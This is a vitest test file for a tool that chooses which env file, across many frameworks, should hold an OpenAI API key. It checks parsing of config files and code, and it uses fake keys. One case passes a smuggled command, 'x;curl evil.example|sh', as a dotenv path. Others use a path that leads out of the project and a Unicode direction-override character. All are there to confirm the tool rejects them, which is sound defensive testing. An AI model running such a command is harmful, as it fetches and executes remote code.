import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { settleScope } from '../../src/project/scope.ts';
import { fakeKey } from '../keys/fake-keys.ts';
import { makeWorld, type TestWorld } from '../make-world.ts';

async function envFileOf(files: Record<string, string>, prepare?: (world: TestWorld) => unknown, requested?: string): Promise<string> {
  const world = makeWorld();
  for (const [name, content] of Object.entries(files)) world.put(name, content);
  await prepare?.(world);
  const { envFile } = await settleScope(world.world, world.ports, requested === undefined ? {} : { envFile: requested });
  return `${envFile.name} · ${envFile.reason}`;
}
const needing = (...names: string[]): string => JSON.stringify({ dependencies: Object.fromEntries(names.map((name) => [name, '*'])) });
const key = `OPENAI_API_KEY=${fakeKey('sk-proj-')}\n`;

describe('which env file, and why', () => {
  it.each<[string, Record<string, string>, string]>([
    ['nothing known', {}, '.env · the usual place'],
    ['Next.js', { 'package.json': needing('next') }, '.env.local · Next.js keeps secrets of this computer there'],
    ['Vite', { 'package.json': needing('vite') }, '.env.local · Vite keeps secrets of this computer there'],
    ['Gatsby', { 'package.json': needing('gatsby'), '.env.example': 'A=\n' }, '.env.development · Gatsby projects keep it there'],
    ['Nuxt', { 'package.json': needing('nuxt') }, '.env · Nuxt projects keep it there'],
    ['SvelteKit before Vite', { 'package.json': needing('vite', '@sveltejs/kit') }, '.env · SvelteKit projects keep it there'],
    ['Django', { 'manage.py': '' }, '.env · Django projects keep it there'],
    ['Rails', { Gemfile: 'gem "rails"\ngem "dotenv-rails"\n' }, '.env · Rails projects keep it there'],
    ['dotenv beside Next.js', { 'package.json': needing('next', 'dotenv') }, '.env · dotenv reads it'],
    ['an example', { '.env.local.example': 'A=\n' }, '.env.local · .env.local.example is its example'],
    [
      'an example of a mode',
      { '.env.development.example': 'A=\n', 'package.json': needing('vite') },
      '.env.development · .env.development.example is its example',
    ],
    ['an example for tests', { '.env.test.example': 'A=\n' }, '.env · the usual place'],
    ['the README before the example', { 'README.md': 'cp .env.example .env.local', '.env.example': '' }, '.env.local · README.md names it'],
    [
      'code before the README',
      { 'README.md': 'cp .env.example .env.local', 'src/a.js': `dotenv.config({path: 'config/.env'})` },
      'config/.env · dotenv.config() names it',
    ],
    [
      'django-environ in a settings package',
      { 'manage.py': '', 'shop/settings.py': 'environ.Env.read_env(BASE_DIR / "config" / ".env")' },
      'config/.env · read_env() names it',
    ],
    ['a notebook', { 'a.ipynb': '{"cells":[{"source":["load_dotenv(\\"config/.env\\")"]}]}' }, 'config/.env · load_dotenv() names it'],
    [
      'a task of Deno',
      { 'deno.json': '{\n// x\n"tasks":{"dev":"deno run --env-file=.env.dev a.ts"}}' },
      '.env.dev · the script “dev” names it',
    ],
    [
      'a dev container',
      { '.devcontainer/devcontainer.json': '{"runArgs":["--env-file",".devcontainer/devcontainer.env"]}' },
      '.devcontainer/devcontainer.env · .devcontainer/devcontainer.json names it',
    ],
    [
      "Firebase's functions",
      { 'firebase.json': '{}', 'functions/index.js': 'new OpenAI({ apiKey: process.env.OPENAI_API_KEY })' },
      'functions/.env.local · Firebase projects keep it there',
    ],
    [
      "Firebase's secrets",
      { 'firebase.json': '{}', 'functions/src/index.ts': 'const key = defineSecret("OPENAI_API_KEY")' },
      'functions/.secret.local · Firebase projects keep it there',
    ],
    [
      "Supabase's functions",
      { 'supabase/config.toml': '', 'supabase/functions/ask/index.ts': 'new OpenAI()', 'package.json': needing('next') },
      'supabase/functions/.env · Supabase projects keep it there',
    ],
    ['a worker without a dependency', { 'wrangler.toml': 'name = "a"' }, '.dev.vars · Wrangler projects keep it there'],
    [
      'a worker built by Vite',
      { 'wrangler.jsonc': '{}', 'package.json': needing('vite', '@cloudflare/vite-plugin') },
      '.dev.vars · Wrangler projects keep it there',
    ],
    ['Python code', { 'main.py': 'load_dotenv(".env.dev")' }, '.env.dev · load_dotenv() names it'],
    ['a script', { 'package.json': '{"scripts": {"dev": "node --env-file=.env.dev x.js"}}' }, '.env.dev · the script “dev” names it'],
    [
      'dotenv without its name',
      { 'package.json': needing('dotenv'), 'a.js': `require("dotenv").config({ path: 'config/dev.env' })` },
      'config/dev.env · dotenv.config() names it',
    ],
    [
      'dotenv by its function',
      { 'package.json': needing('dotenv'), 'a.mjs': `import { config } from 'dotenv';\nconfig({ path: '.env.local' });` },
      '.env.local · dotenv.config() names it',
    ],
    [
      "another's function of that name",
      { 'a.mjs': `import { config } from './config.js';\nconfig({ path: '.env.local' });` },
      '.env · the usual place',
    ],
    [
      'a program of several in Go',
      { 'go.mod': 'module x', 'cmd/api/main.go': 'godotenv.Load(".env.local")' },
      '.env.local · godotenv.Load() names it',
    ],
    ['Rust', { 'Cargo.toml': '', 'src/main.rs': 'dotenvy::from_filename("dev.env").ok();' }, 'dev.env · dotenvy::from_filename() names it'],
    [
      'Symfony',
      { 'composer.json': '{}', 'symfony.lock': '{}', '.env': 'APP_ENV=dev\n' },
      '.env.local · Symfony keeps secrets of this computer there',
    ],
    ['Wrangler', { 'package.json': needing('wrangler') }, '.dev.vars · Wrangler projects keep it there'],
    ['dotenv-flow', { 'package.json': needing('dotenv-flow') }, '.env.local · dotenv-flow keeps secrets of this computer there'],
    ['a compose file', { 'compose.yaml': 'services:\n  a:\n    env_file: app.env\n' }, 'app.env · compose.yaml names it'],
    ['code that names what nobody can type', { 'a.js': `dotenv.config({path: 'a\u202e/.env'})` }, '.env · the usual place'],
    ['code that names a command', { 'a.js': `dotenv.config({path: 'x;curl evil.example|sh;/.env'})` }, '.env · the usual place'],
    [
      'code that names letters of any language',
      { 'a.js': `dotenv.config({path: './größe 1/@日本/.env'})` },
      'größe 1/@日本/.env · dotenv.config() names it',
    ],
    ['code that leads out of the project', { 'a.js': `dotenv.config({path: '../../secrets/.env'})` }, '.env · the usual place'],
    [
      'the file with the key',
      { 'package.json': needing('next'), '.env': key, '.env.example': '' },
      '.env · it holds OPENAI_API_KEY already',
    ],
    [
      'the one that wins of two',
      { 'package.json': needing('next'), '.env': key, '.env.local': key },
      '.env.local · it holds OPENAI_API_KEY already',
    ],
    [
      'a placeholder does not count',
      { 'package.json': needing('next'), '.env': 'OPENAI_API_KEY=your-key\n' },
      '.env.local · Next.js keeps secrets of this computer there',
    ],
    ['a key in a file that nothing reads', { 'package.json': needing('nuxt'), '.env.local': key }, '.env · Nuxt projects keep it there'],
  ])('%s', async (_name, files, expected) => {
    expect(await envFileOf(files)).toBe(expected);
  });

  it('the option, and what was chosen before, come first', async () => {
    const choose = (envFile: string) => (world: TestWorld) => world.ports.settings.choose(world.project, { envFile });
    expect(await envFileOf({ '.env': key }, choose('.env.dev'))).toBe('.env.dev · you chose it before');
    expect(await envFileOf({ '.env': key }, choose('.env.dev'), '.env.other')).toBe('.env.other · --file');
    expect(await envFileOf({ '.env': key }, choose('../elsewhere/.env'))).toBe('.env · it holds OPENAI_API_KEY already');
  });

  it('may lie above the package, within the repository', async () => {
    const world = makeWorld();
    world.put('server/package.json', needing('dotenv'));
    world.put('server/index.js', `require('dotenv').config({ path: '../.env' })`);
    const { envFile } = await settleScope({ ...world.world, cwd: path.join(world.project, 'server') }, world.ports, {});
    expect(envFile).toMatchObject({ path: path.join(world.project, '.env'), name: '../.env' });
  });

  it('lies where the run was started, if there is one, manifest or not', async () => {
    const world = makeWorld();
    for (const name of ['package.json', '.env', 'jobs/.env', 'src/.env.example']) world.put(name, '{}');
    const rootFrom = async (name: string): Promise<string> => {
      const { root } = await settleScope({ ...world.world, cwd: path.join(world.project, name) }, world.ports, {});
      return path.relative(world.project, root);
    };
    expect(await rootFrom('jobs')).toBe('jobs');
    expect(await rootFrom('src')).toBe('');
  });

  it('reads a bounded number of files', async () => {
    const world = makeWorld();
    for (let index = 0; index < 200; index += 1) world.put(`src/${index}.js`, '// nothing\n');
    let looks = 0;
    const look = (file: string) => {
      looks += 1;
      return world.ports.files.look(file);
    };
    await settleScope(world.world, { ...world.ports, files: { ...world.ports.files, look } }, {});
    expect(looks).toBeLessThan(120);
  });
});
